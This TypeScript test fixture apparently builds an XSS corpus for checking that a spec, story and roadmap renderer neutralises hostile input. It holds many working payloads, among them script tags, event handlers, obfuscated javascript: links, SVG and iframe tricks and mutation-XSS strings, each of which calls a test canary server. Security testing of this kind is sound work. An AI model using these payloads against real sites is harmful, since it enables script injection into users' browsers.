/**
 * Hostile content for the XSS tests. Every payload that ran would set `top.__pwned` and call the
 * canary server; every one that fetched would hit the canary server under `/fetched/`.
 */

export interface Payload {
  name: string;
  /** Markdown or raw HTML, as it would sit in a cloned repository's file. */
  source: string;
}

/** The script each payload tries to run; no spaces, so it also fits a Markdown link target. */
export function ran(canary: string, name: string): string {
  return `top.__pwned='${name}';fetch('${canary}/ran/${name}')`;
}

function base64(text: string): string {
  return Buffer.from(text).toString('base64');
}

export function xssPayloads(canary: string): Payload[] {
  const js = (name: string) => ran(canary, name);
  const fetched = (name: string) => `${canary}/fetched/${name}`;
  return [
    { name: 'script', source: `<script>${js('script')}</script>` },
    { name: 'script after a comment', source: `<!-- --><script>${js('after-comment')}</script><!-- -->` },
    { name: 'img onerror', source: `<img src="x" onerror="${js('img-onerror')}">` },
    { name: 'img remote', source: `<img src="${fetched('img-remote.png')}" alt="remote html image">` },
    { name: 'img srcset', source: `<img srcset="${fetched('srcset.png')} 1x" alt="srcset image">` },
    { name: 'markdown image remote', source: `![remote markdown image](${fetched('md-image.png')})` },
    {
      name: 'inline handlers in a paragraph',
      source: `Inline <img src=x onerror="${js('inline-img')}"> and <b onmouseover="${js('mouseover')}">hover me</b>.`,
    },
    { name: 'svg onload', source: `<svg onload="${js('svg-onload')}"><circle r="4"/></svg>` },
    { name: 'svg script', source: `<svg><script>${js('svg-script')}</script></svg>` },
    { name: 'svg use', source: `<svg><use href="${fetched('svg-use.svg')}#x"/></svg>` },
    {
      name: 'svg as a data: image',
      source: `<img alt="svg data image" src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js('svg-data')}"/>`)}">`,
    },
    { name: 'iframe javascript:', source: `<iframe src="javascript:${js('iframe-js')}"></iframe>` },
    { name: 'iframe srcdoc', source: `<iframe srcdoc="<script>${js('iframe-srcdoc')}</script>"></iframe>` },
    { name: 'iframe remote', source: `<iframe src="${fetched('iframe')}"></iframe>` },
    { name: 'object', source: `<object data="${fetched('object')}"></object>` },
    { name: 'embed', source: `<embed src="${fetched('embed')}">` },
    {
      name: 'meta refresh',
      source: `<meta http-equiv="refresh" content="0;url=${fetched('meta-refresh')}">`,
    },
    {
      name: 'base href',
      source: `<base href="${fetched('base/')}">\n\n[relative after base link](relative)`,
    },
    {
      name: 'form action',
      source: `<form action="${fetched('form')}"><button type="submit">Submit the form</button></form>`,
    },
    {
      name: 'style attribute url()',
      source: `<div style="background-image:url(${fetched('style-attribute')})">styled div</div>`,
    },
    {
      name: 'style element',
      source: `<style>@import url(${fetched('style-import.css')});body{background:url(${fetched('style-body')})}</style>`,
    },
    { name: 'stylesheet link', source: `<link rel="stylesheet" href="${fetched('link.css')}">` },
    { name: 'prefetch link', source: `<link rel="prefetch" href="${fetched('prefetch')}">` },
    {
      name: 'details ontoggle',
      source: `<details open ontoggle="${js('details')}"><summary>details</summary>x</details>`,
    },
    { name: 'autofocus onfocus', source: `<input autofocus onfocus="${js('autofocus')}">` },
    {
      name: 'video onerror',
      source: `<video src="x" onerror="${js('video')}" poster="${fetched('poster.png')}"></video>`,
    },
    { name: 'body onload', source: `<body onload="${js('body-onload')}">` },
    { name: 'template', source: `<template><img src=x onerror="${js('template')}"></template>` },
    { name: 'a javascript:', source: `<a href="javascript:${js('a-js')}">a-js link</a>` },
    { name: 'a decimal entities', source: `<a href="&#106;avascript:${js('a-entity')}">a-entity link</a>` },
    {
      name: 'a hex entities',
      source: `<a href="&#x6A;&#x61;&#x76;&#x61;script:${js('a-hex')}">a-hex link</a>`,
    },
    { name: 'a mixed case', source: `<a href="JaVaScRiPt:${js('a-mixed')}">a-mixed link</a>` },
    {
      name: 'a leading space and tab',
      source: `<a href=" &#9;javascript:${js('a-space')}">a-space link</a>`,
    },
    { name: 'a tab inside the scheme', source: `<a href="java&#9;script:${js('a-tab')}">a-tab link</a>` },
    { name: 'a control character', source: `<a href="&#1;javascript:${js('a-control')}">a-control link</a>` },
    {
      name: 'a data: page',
      source: `<a href="data:text/html,<script>${js('a-data')}</script>">a-data link</a>`,
    },
    { name: 'a ping', source: `<a href="#top" ping="${fetched('ping')}">a-ping link</a>` },
    { name: 'markdown javascript:', source: `[md-js link](javascript:top.__pwned='md-js')` },
    { name: 'markdown entity', source: `[md-entity link](&#106;avascript:top.__pwned='md-entity')` },
    { name: 'markdown mixed case', source: `[md-mixed link](JAVASCRIPT:top.__pwned='md-mixed')` },
    {
      name: 'markdown data:',
      source: `[md-data link](data:text/html;base64,${base64(`<script>${js('md-data')}</script>`)})`,
    },
    { name: 'markdown vbscript:', source: `[md-vbscript link](vbscript:msgbox)` },
    { name: 'autolink javascript:', source: `<javascript:top.__pwned='autolink'>` },
    {
      name: 'reference definition',
      source: `[md-reference link][evil]\n\n[evil]: javascript:top.__pwned='reference'`,
    },
    { name: 'workspace svg image', source: `![workspace svg](../assets/hostile.svg)` },
    { name: 'code fence', source: '```html\n<script>' + js('fence') + '</script>\n```' },
    {
      name: 'table cell',
      source: `| a | b |\n|---|---|\n| <img src=x onerror="${js('table')}"> | [table link](javascript:top.__pwned='table-link') |`,
    },
    {
      name: 'wiki links',
      source: `See [[<img src=x onerror="${js('wikilink')}">]] and [[SPEC-1|<img src=x onerror="${js('wikilabel')}">]].`,
    },
    // Last: an unclosed <math> or <noscript> swallows whatever follows it.
    {
      name: 'mutation XSS through math',
      source: `<math><mtext><table><mglyph><style><img src=x onerror="${js('mxss-math')}">`,
    },
    {
      name: 'mutation XSS through noscript',
      source: `<noscript><p title="</noscript><img src=x onerror=${js('mxss-noscript')}>"></p></noscript>`,
    },
  ];
}

/** A spec holding every payload, plus hostile front matter and requirement attributes. */
export function xssSpec(canary: string): string {
  const payloads = xssPayloads(canary);
  return [
    '---',
    'key: SPEC-90',
    'type: spec',
    `title: "XSS corpus <img src=x onerror=${ran(canary, 'title')}>"`,
    `owner: "<script>${ran(canary, 'owner')}</script>"`,
    'status: draft',
    '---',
    '## Problem',
    '',
    ...payloads.flatMap((payload) => [`### ${payload.name}`, '', payload.source, '']),
    '## Requirements',
    '',
    `:::requirement{#REQ-901 priority=must status=approved roadmap="<img src=x onerror=${ran(canary, 'requirement-attribute')}>"}`,
    `A requirement whose text holds <img src=x onerror="${ran(canary, 'requirement-text')}"> and [req link](javascript:top.__pwned='req-link').`,
    ':::',
    '',
  ].join('\n');
}

/** A story implementing the sample's REQ-1 whose every part is hostile, for the read-only story page. */
export function xssStory(canary: string): string {
  const payloads = xssPayloads(canary);
  return [
    '---',
    'key: STORY-90',
    'type: story',
    `title: "Hostile story <img src=x onerror=${ran(canary, 'story-title')}>"`,
    'status: ready',
    'implements: [REQ-1]',
    'estimate: 3',
    '---',
    `As a **<img src=x onerror="${ran(canary, 'story-role')}">**, I want **[story link](javascript:top.__pwned='story-link')** so that **nothing runs**.`,
    '',
    '## Acceptance criteria',
    `- [ ] Given <img src=x onerror="${ran(canary, 'criterion')}">, when I look, then nothing runs.`,
    `- [ ] Given [criterion link](javascript:top.__pwned='criterion-link'), when I click, then nothing runs.`,
    '',
    '## Notes',
    '',
    ...payloads.flatMap((payload) => [payload.source, '']),
  ].join('\n');
}

/** Every payload as one HTML fragment, as a web page's copy would put it on the clipboard. */
export function xssClipboardHtml(canary: string): string {
  return xssPayloads(canary)
    .filter((payload) => payload.source.includes('<') && !payload.source.includes(']('))
    .map((payload) => `<p>Payload ${payload.name.replace(/:/g, '')}</p>${payload.source}`)
    .join('\n');
}

/** An SVG committed to the workspace: scripts, a handler, a remote image and a frame in a foreignObject. */
export function xssSvg(canary: string): string {
  return [
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${ran(canary, 'svg-file-onload')}">`,
    `<script>${ran(canary, 'svg-file-script')}</script>`,
    `<image href="${canary}/fetched/svg-file-image" width="10" height="10"/>`,
    `<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canary}/fetched/svg-file-frame"></iframe></foreignObject>`,
    '<rect width="40" height="40" fill="teal"/>',
    '</svg>',
  ].join('\n');
}

/** A roadmap item whose every text field is hostile, in the shape of roadmap.json. */
export function xssRoadmapItem(canary: string): Record<string, unknown> {
  const hostile = (name: string) => `<img src=x onerror="${ran(canary, name)}">`;
  return {
    key: 'RM-90',
    title: `Hostile item ${hostile('roadmap-title')}`,
    description: `${hostile('roadmap-description')} [roadmap link](javascript:top.__pwned='roadmap-link')`,
    lane: 'now',
    rank: 90,
    quarter: '2026-Q4',
    status: 'planned',
    theme: hostile('roadmap-theme'),
    owner: hostile('roadmap-owner'),
    rice: { reach: 1, impact: 1, confidence: 50, effort: 1 },
  };
}
